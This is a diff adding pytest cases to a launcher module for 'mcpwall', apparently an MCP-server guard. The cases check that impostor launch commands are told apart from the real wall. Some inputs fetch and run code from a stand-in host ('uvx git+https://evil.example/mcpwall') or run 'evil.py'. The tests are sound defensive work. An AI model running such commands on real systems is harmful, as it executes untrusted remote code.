@@ -101,7 +101,15 @@ def test_the_wall_is_known_however_it_is_started(words):
 
 @pytest.mark.parametrize(
     "words",
-    ["", "npx x", "mcpwall", "mcpwall stdio", "mcpwall demo x", "npx mcpwall-tools stdio fs"],
+    [
+        *("", "npx x", "mcpwall", "mcpwall stdio", "mcpwall demo x", "npx mcpwall-tools stdio fs"),
+        "python3 evil.py -m mcpwall stdio fs -- npx x",
+        "python3 -c evil() -m mcpwall stdio fs -- npx x",
+        "uvx ./mcpwall stdio fs -- npx x",
+        "uvx git+https://evil.example/mcpwall stdio fs -- npx x",
+        "uvx mcpwall@git+https://evil.example stdio fs -- npx x",
+        "pipx run /tmp/mcpwall stdio fs -- npx x",
+    ],
 )
 def test_what_is_not_the_wall_is_not_taken_for_it(words):
     assert launcher.routed(words.split()) is None
@@ -112,6 +120,30 @@ def test_the_wall_is_told_which_home_it_has():
     told = launcher.launcher("/b/mcpwall", {"MCPWALL_HOME": "/w", "XDG_STATE_HOME": ""})
     assert told == ("/usr/bin/env", "MCPWALL_HOME=/w", "/b/mcpwall")
     assert launcher.routed([*told, "stdio", "fs"]) == launcher.Routed("fs", ())
+
+
+@pytest.mark.parametrize(
+    ("words", "added", "why"),
+    [
+        ("mcpwall", {}, ""),
+        ("/opt/bin/mcpwall", {"PATH": "/b"}, ""),
+        ("~/.local/bin/mcpwall", {}, ""),
+        ("${HOME}/.local/bin/mcpwall", {}, ""),
+        ("C:\\tools\\mcpwall.exe", {}, ""),
+        ("/usr/bin/env MCPWALL_HOME=/w /opt/mcpwall", {}, ""),
+        ("mcpwall", {"MCPWALL_HOME": "/w"}, ""),
+        ("./mcpwall", {}, "it starts ./mcpwall, whatever that is where the agent runs"),
+        ("bin/mcpwall", {}, "it starts bin/mcpwall"),
+        ("..\\mcpwall.exe", {}, "it starts ..\\mcpwall.exe"),
+        ("${workspaceFolder}/mcpwall", {}, "it starts ${workspaceFolder}/mcpwall"),
+        ("env MCPWALL_HOME=/loose mcpwall", {}, "has a home of its own (MCPWALL_HOME)"),
+        ("mcpwall", {"MCPWALL_HOME": "/loose"}, "has a home of its own (MCPWALL_HOME)"),
+        ("mcpwall", {"XDG_CONFIG_HOME": "/loose"}, "has a home of its own (XDG_CONFIG_HOME)"),
+    ],
+)
+def test_a_wall_that_is_not_this_one_is_told_from_it(words, added, why):
+    told = launcher.another([*words.split(), "stdio", "fs"], added, {"MCPWALL_HOME": "/w"})
+    assert (why in told) if why else told == ""
 
 
 # --- names --------------------------------------------------------------------------------------
